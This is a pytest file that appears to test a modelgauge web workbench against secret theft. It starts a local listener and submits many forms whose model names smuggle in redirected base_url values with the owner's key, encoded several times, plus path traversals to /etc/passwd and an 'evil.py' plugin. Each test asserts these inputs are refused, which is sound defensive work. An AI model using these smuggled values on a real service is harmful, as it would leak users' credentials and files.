"""Visitors who want the owner's secrets: a real server, real runs, and a listener that would receive them."""

import re
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import ClassVar
from urllib.parse import quote

import pytest
from children import PATIENCE

from modelgauge.evals import EvaluationDataset, Golden

SECRET = "sk-owner-c0ffee-1234567890"
PLUGIN = """
from modelgauge import hookimpl
from modelgauge.metrics import ExactMatchMetric
from modelgauge.testing import FakeSUT

class Wrapped(FakeSUT):
    def __init__(self, uid, model="", inner="", port=0):
        super().__init__(uid)

class Asking(ExactMatchMetric):
    def __init__(self, uid=None, *, endpoint="", size=0):
        super().__init__(uid)

@hookimpl
def modelgauge_register_suts(register):
    register("quick", FakeSUT)
    register.provider("wrapped", Wrapped)

@hookimpl
def modelgauge_register_metrics(register):
    register("asking", Asking)
"""
SETTINGS = """
[openai.servers.mine]
base_url = "{url}"
key_env = "MINE_KEY"

[judge]
model = "mine/judge"
"""


class Listener(BaseHTTPRequestHandler):
    """Keeps what it gets."""

    received: ClassVar[list[str]] = []

    def do_POST(self):
        length = int(self.headers.get("Content-Length") or 0)
        self.received.append(f"{self.path} {self.headers} {self.rfile.read(length)!r}")
        self.send_error(404)

    do_GET = do_POST  # noqa: N815  likewise

    def log_message(self, *_):
        pass


@pytest.fixture(scope="module")
def listener():
    server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/v1"
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def workbench(serve, tmp_path_factory, listener):
    home = tmp_path_factory.mktemp("home")
    (home / "plugin.py").write_text(PLUGIN, encoding="utf-8")
    (home / "modelgauge.toml").write_text(SETTINGS.format(url=listener), encoding="utf-8")
    (home / "answers.jsonl").write_text('{"prompt": "a", "response": "b"}\n', encoding="utf-8")
    golden = Golden(input="a", expected_output="b")
    EvaluationDataset([golden]).push("questions", data_dir=home / "data")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(home)
        for name in ("OWNERS_SECRET", "AWS_SECRET_ACCESS_KEY", "MINE_KEY", "OPENAI_API_KEY"):
            patch.setenv(name, SECRET)
        return serve(home / "data", options=("--plugin", "plugin.py"))


def coded(text, times):
    for _ in range(times):
        text = quote(text, safe="")
    return text


def names(url):
    """Names of a SUT that send a secret of the owner to the listener, or read a file of the owner."""
    server = url.removeprefix("http://")
    for times in range(4):
        address = coded(url, times)
        yield f"openai/m?key_env=OWNERS_SECRET&base_url={address}"
        yield f"openai/m?base%5Furl={address}&key%5Fenv=OWNERS_SECRET"
    yield from (
        f"openai/m?base_url={url.upper()}&key=owners.secret",
        f"openai/m?base_url={url}&send_key=true",
        f"openai/m?extra_headers={coded('{}', 1)}",
        f"openai/m?base_url={server}",
        "openai/m?key_env=OWNERS_SECRET",
        "openai/m?key=aws.secret_access_key",
        "openai/m?send_key=true",
        "openai/m?server=vllm",
        "mine/m?key_env=OWNERS_SECRET",
        "mine/m?send_key=true",
        "openai/m?server=mine&key_env=OWNERS_SECRET",
        f"openai/m{coded('?base_url=' + url, 1)}",
        "replay/answers.jsonl",
        "replay//etc/passwd",
        f"wrapped/{coded('openai/m?key_env=OWNERS_SECRET&base_url=' + url, 2)}",
        f"wrapped/m?inner={coded('openai/m?key_env=OWNERS_SECRET&base_url=' + url, 1)}",
        "wrapped/m?port=80",
        "wrapped/%2Fetc%2Fpasswd",
        "plugin.py:Wrapped",
        "--plugin",
    )


def forms(url):
    """Forms that would ask one of the names, in every field that names something."""
    judged = {"datasets": "questions", "suts": "quick"}
    for name in names(url):
        yield {"tests": "demo_01", "suts": name}
        yield {"tests": "demo_01", "suts": f"a label={name}"}
        yield {**judged, "metrics": "answer_relevancy", "judge": name}
        for times in (1, 2):
            for metric in ("answer_relevancy", "g_eval?name=x&criteria=y", "faithfulness?threshold=0.1"):
                options = f"{'&' if '?' in metric else '?'}model={coded(name, times)}"
                yield {**judged, "metrics": f"{metric}{options}"}
        yield {**judged, "metrics": f"answer_relevancy?model=mine/ok,{coded(name, 1)}"}
    yield from (
        {**judged, "metrics": "asking?endpoint=127.0.0.1"},
        {**judged, "metrics": "plugin.py"},
        {**judged, "datasets": "../../home/answers.jsonl", "metrics": "exact_match"},
        {**judged, "datasets": "answers.jsonl", "metrics": "exact_match"},
    )


def test_no_form_gets_a_secret_or_a_file_of_the_owner(workbench, listener):
    Listener.received.clear()
    allowed = []
    for fields in forms(listener):
        status, headers, text = workbench.post("/starts", **fields)
        if status == 303:
            start(workbench, headers["Location"])
            allowed.append(fields)
        else:
            assert (status, 'aria-invalid="true"' in text) == (200, True), fields
    assert allowed == []
    assert [heard for heard in Listener.received if SECRET in heard] == []


def test_names_listed_by_owner_can_be_chosen(workbench, listener):
    del listener
    judged = {"datasets": "questions", "suts": "quick"}
    for fields in (
        {"tests": "demo_01", "suts": "mine/some/model:8b"},
        {"tests": "demo_01", "suts": "openai/m?server=mine"},
        {**judged, "metrics": "answer_relevancy?threshold=0.7", "judge": "mine/judge"},
        {**judged, "metrics": "answer_relevancy?model=mine/a,openai/b&combine=majority"},
        {**judged, "metrics": "answer_relevancy"},  # by the owner's default judge
        {**judged, "metrics": "pattern_match?pattern=%5E%5Cd/"},
        {**judged, "metrics": "asking?size=3"},
    ):
        status, headers, text = workbench.post("/starts", **fields)
        assert (status, re.findall(r'id="\w+-problem-\d">([^<]*)', text)) == (303, []), fields
        assert headers["Location"].startswith("/starts/")


def test_neither_estimate_nor_start_runs_a_file_that_no_form_wrote(workbench, listener):
    Listener.received.clear()
    _, headers, _ = workbench.post("/starts", tests="demo_01", suts="quick")
    job = headers["Location"]
    file = workbench.data_dirs[0] / "workbench" / "jobs" / job.rpartition("/")[2] / "run.toml"
    name = f"answer_relevancy?model={coded(f'openai/m?key_env=OWNERS_SECRET&base_url={listener}', 2)}"
    saved = workbench.data_dirs[0] / "datasets" / "questions" / "v0001.jsonl"
    for text in (
        f'datasets = ["{saved}"]\nmetrics = ["{name}"]\nsuts = ["quick"]\n',
        'tests = ["demo_01"]\nsuts = ["quick"]\nplugins = ["evil.py"]\n',
    ):
        file.write_text(text, encoding="utf-8")
        for action in ("estimate", "start"):
            assert workbench.post(f"{job}/{action}")[0] == 400
    assert Listener.received == []


def start(workbench, job):
    """Start what should have been refused, so that the listener hears it."""
    workbench.post(f"{job}/start")
    patience = time.monotonic() + PATIENCE
    while not re.search(r"Done|Failed|Stopped", workbench.ask(job)[2]) and time.monotonic() < patience:
        time.sleep(0.1)
